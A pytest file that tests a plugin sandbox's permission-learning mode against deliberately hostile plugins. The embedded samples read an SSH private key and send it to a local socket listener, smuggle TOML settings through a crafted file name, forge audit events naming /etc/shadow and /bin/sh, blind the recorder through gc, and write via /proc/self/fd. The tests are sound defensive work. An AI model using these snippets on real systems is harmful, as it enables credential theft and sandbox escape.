"""A hostile plugin that is learned: it gets nothing granted, read or reached that the person has not allowed, and cannot write
its own settings. Each attack is first shown to work without what stops it.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest
from integration import harness

from escape import kit
from sandbox import learn
from sandbox.cli import trial
from sandbox.config import IsolationLevel
from sandbox.learn import Consent, Policy

SECRET = "of-the-caller-alone"


@pytest.fixture(autouse=True)
def can_be_opened() -> None:
    if kit.why_closed(IsolationLevel.STRICT):
        pytest.skip(f"level strict cannot be opened: {kit.why_closed(IsolationLevel.STRICT)}")


@pytest.fixture
def place(tmp_path: Path) -> Path:
    learn.secret_within.cache_clear()
    (tmp_path / "p").mkdir()
    return tmp_path


def psie(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    words = [sys.executable, "-m", "sandbox.cli", *map(str, arguments)]
    return subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, check=False)


def plugin(place: Path, source: str) -> Path:
    path = place / "p" / "plugin.py"
    path.write_text(source)
    return path


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A port of this machine, and what was sent there."""
    seen: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    seen.append(connection.recv(100))

        thread = threading.Thread(target=accept)
        thread.start()
        yield server.getsockname()[1], seen
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


@pytest.mark.parametrize("options", [[], ["--allow-network"], ["--allow-files"], ["--allow-files", "--allow-network"]])
def test_no_secret_is_read_and_nothing_leaves(place: Path, listener: tuple[int, list[bytes]], options: list[str]) -> None:
    port, seen = listener
    key = place / ".ssh" / "id_ed25519"
    key.parent.mkdir()
    key.write_text(SECRET)
    source = f"""\
import socket, sys
sent = False
try:
    found = open({str(key)!r}).read()
except OSError:
    found = "nothing"
try:
    with socket.create_connection(("127.0.0.1", {port}), 5) as out:
        out.sendall(found.encode())
except OSError:
    pass
print(found)
"""
    file = plugin(place, source)
    subprocess.run([sys.executable, str(file)], check=True, stdout=subprocess.DEVNULL)
    assert harness.wait_until(lambda: seen == [SECRET.encode()])  # without a sandbox
    by_hand = place / "by-hand.toml"
    by_hand.write_text(
        f'[isolation]\nlevel = "strict"\n[permissions]\nreadable_paths = ["{key}"]\n'
        f'allow_network_access = true\nallowed_hosts = ["127.0.0.1:{port}"]\n'
    )
    assert psie("run", "-q", "--config", by_hand, file).stdout == f"{SECRET}\n"
    assert harness.wait_until(lambda: seen == [SECRET.encode()] * 2)  # and if learning granted what is asked for
    done = psie("learn", *options, file)
    assert done.returncode == 0, done.stderr  # it has gone on without
    assert len(seen) == 2
    assert SECRET not in done.stdout + done.stderr
    assert tomllib.loads((place / "p/psie.toml").read_text())["permissions"] == {}
    assert "not granted: read" in done.stderr
    assert f"not granted: connect to 127.0.0.1:{port}" in done.stderr


def seen_in_a_run(file: Path) -> trial.Result:
    """In a process of its own, as in the command: it forks."""
    code = (
        "import json, sys\nfrom sandbox.cli import trial\n"
        "result = trial.Runner(sys.argv[1], (), ()).run('[isolation]\\nlevel = \"strict\"\\n')\nprint(json.dumps(vars(result)))"
    )
    words = [sys.executable, "-c", code, str(file)]
    done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, check=True)
    return trial.Result(**json.loads(done.stdout))


INJECTED = '"]\nallow_subprocess_execution = true\nallow_network_access = true\nallowed_hosts = ["*"]\n# "'


@pytest.mark.parametrize("name", [INJECTED, "a\r\n[permissions]\n", "x\u2028y", 'a"b', "a\\", "a\x7fb", "\x1b]0;title\x07"])
def test_a_name_writes_no_settings(place: Path, name: str) -> None:
    """The name of a file that there is, and that may be read."""
    file = place / "data" / name
    file.parent.mkdir()
    if "/" in name:
        pytest.skip("no name of a file")
    file.write_text("x")
    if name == INJECTED:  # as it would be if names were only put between quotation marks
        naive = tomllib.loads(f'[permissions]\nreadable_paths = ["{file}"]\n')
        assert naive["permissions"]["allowed_hosts"] == ["*"]
    done = psie("learn", "--allow-files", plugin(place, f"print(open({str(file)!r}).read())\n"))
    written = place / "p/psie.toml"
    if done.returncode:
        assert not written.exists()
    else:
        assert tomllib.loads(written.read_text())["permissions"] == {"readable_paths": [str(file)]}
    for said in (done.stderr, written.read_text() if written.exists() else ""):
        assert "\x1b" not in said
        assert "\u2028" not in said


@pytest.mark.long
def test_a_forged_record_is_only_a_wish(place: Path) -> None:
    """It tells of accesses that there were none of: some are no wishes at all, others need the person's consent, and what it
    does without is left out again."""
    data = place / "data.txt"
    data.write_text(SECRET)
    source = f"""\
import os, sys
for path in ({str(data)!r}, "/etc/shadow", "/\\n[permissions]", "x" * 100000, "/" + "y" * 5000, "\\udcff"):
    sys.audit("open", path, "r", 0)
    sys.audit("os.remove", path, -1)
sys.audit("subprocess.Popen", "/bin/sh", ["/bin/sh", {str(data)!r}] * 1000, None, None)
sys.audit("os.rename", 3, object())
sys.audit("socket.getaddrinfo", "a b\\n", 1)
for number in range(5000):
    sys.audit("open", f"/nowhere/{{number}}", "r", 0)
"""
    file = plugin(place, source)
    told = seen_in_a_run(file)
    assert {"read", "delete"} <= {wish["wish"] for wish in told.wishes if wish["path"] == str(data)}  # it was believed so far
    assert len(told.wishes) <= 512
    policy = Policy("strict", str(file), {})
    policy.take(learn.seen_in(told, "/"), Consent(files=True))
    assert policy.grants  # with consent a wish is enough to be tried with
    for options in ([], ["--allow-files", "--allow-network"]):
        done = psie("learn", "--force", *options, file)
        assert done.returncode == 0, done.stderr
        assert tomllib.loads((place / "p/psie.toml").read_text())["permissions"] == {}
    assert data.read_text() == SECRET


def test_a_recorder_that_was_taken_away_grants_nothing(place: Path) -> None:
    """It can silence what tells of it: then it gets less, not more."""
    data = place / "data.txt"
    data.write_text(SECRET)
    look = f"""
try:
    print(open({str(data)!r}).read())
except OSError:
    print("hidden")
"""
    assert psie("learn", "--dry-run", "--allow-files", plugin(place, look)).stdout.count("readable_paths") == 1
    blind = """
import gc


class All:
    def __contains__(self, thread):
        return True


for each in gc.get_objects():
    if type(each).__name__ == "Wishes":
        each.busy = All()
"""
    done = psie("learn", "--dry-run", "--allow-files", plugin(place, blind + look))
    assert (done.returncode, done.stdout.count("readable_paths")) == (0, 0)


def test_learning_changes_no_file(place: Path) -> None:
    """Though it may write there, as far as it can tell."""
    target = place / "out" / "precious"
    target.parent.mkdir()
    target.write_text(SECRET)
    target.parent.chmod(0o755)
    file = plugin(
        place,
        f"import os\nopen({str(target)!r}, 'w').write('gone')\nos.remove({str(target)!r})\nopen({str(target) + '2'!r}, 'w')\n",
    )
    by_hand = place / "by-hand.toml"
    by_hand.write_text(
        f'[isolation]\nlevel = "strict"\n[permissions]\nallowed_directories = ["{target.parent}"]\nallow_file_deletion = true\n'
    )
    done = psie("learn", "--allow-files", file)
    assert done.returncode == 0, done.stderr
    assert (target.read_text(), os.listdir(target.parent)) == (SECRET, ["precious"])
    assert psie("run", "-q", "--config", by_hand, file).returncode == 0
    assert os.listdir(target.parent) == ["precious2"]  # what a run that keeps its changes does


def test_settings_beside_it_are_not_its_own(place: Path) -> None:
    """A psie.toml that came with the plugin neither widens what is run for learning, nor is it replaced unasked."""
    data = place / "data.txt"
    data.write_text(SECRET)
    own = place / "p" / "psie.toml"
    own.write_text(f'[permissions]\nreadable_paths = ["{data}"]\n')
    file = plugin(place, f"print(open({str(data)!r}).read())\n")
    assert psie("run", "-q", "--level", "strict", "--config", own, file).stdout == f"{SECRET}\n"
    done = psie("learn", "--dry-run", file)
    assert done.returncode == 1
    assert SECRET not in done.stdout + done.stderr
    assert psie("learn", file).returncode == 125
    assert str(data) in own.read_text()


CHANGES = """\
import os, sys

folder, outcomes = sys.argv[1], []


def attempt(name, change):
    try:
        change()
        outcomes.append(name)
    except OSError:
        pass


def through_proc():
    fd = os.open("file", os.O_RDONLY)
    with open(f"/proc/self/fd/{fd}", "a") as file:
        file.write("x")


os.chdir(folder)
print(open("file").read())
attempt("write", lambda: open("file", "a").write("x"))
attempt("truncate", lambda: os.truncate("file", 1))
attempt("through /proc", through_proc)
attempt("make", lambda: os.close(os.open("made", os.O_CREAT | os.O_WRONLY)))
attempt("mkdir", lambda: os.mkdir("folder"))
attempt("link", lambda: os.link("file", "linked"))
attempt("symlink", lambda: os.symlink("file", "symlinked"))
attempt("chmod", lambda: os.chmod("file", 0o600))
attempt("utime", lambda: os.utime("file", (1, 1)))
attempt("rename", lambda: os.rename("file", "renamed"))
attempt("unlink", lambda: os.unlink("file"))
attempt("unlink what was renamed", lambda: os.unlink("renamed"))
print(",".join(outcomes))
"""


@pytest.mark.parametrize("level", list(IsolationLevel), ids=lambda level: level.value)
def test_what_may_be_read_cannot_be_changed(place: Path, level: IsolationLevel) -> None:
    """Though its mode lets everybody change it."""
    if kit.why_closed(level):
        pytest.skip(f"level {level.value} cannot be opened: {kit.why_closed(level)}")
    folder = place / "open"
    file = plugin(place, CHANGES)
    settings = place / "settings.toml"
    settings.write_text(f'[isolation]\nlevel = "{level.value}"\n[permissions]\nreadable_paths = ["{folder}"]\n')

    def prepare() -> None:
        folder.mkdir(exist_ok=True)
        folder.chmod(0o777)
        for name in os.listdir(folder):
            (folder / name).rmdir() if (folder / name).is_dir() else (folder / name).unlink()
        (folder / "file").write_text(SECRET)
        (folder / "file").chmod(0o666)

    prepare()
    outside = subprocess.run([sys.executable, str(file), str(folder)], capture_output=True, text=True, check=True)
    assert len(outside.stdout.splitlines()[1].split(",")) == 11  # all but the one or the other unlink

    prepare()
    before = (folder / "file").stat()
    done = psie("run", "-q", "--config", settings, file, folder)
    assert done.stdout.splitlines() == [SECRET, ""], done.stderr
    after = (folder / "file").stat()
    assert os.listdir(folder) == ["file"]
    assert (folder / "file").read_text() == SECRET
    assert (after.st_mode, after.st_mtime_ns, after.st_size) == (before.st_mode, before.st_mtime_ns, before.st_size)
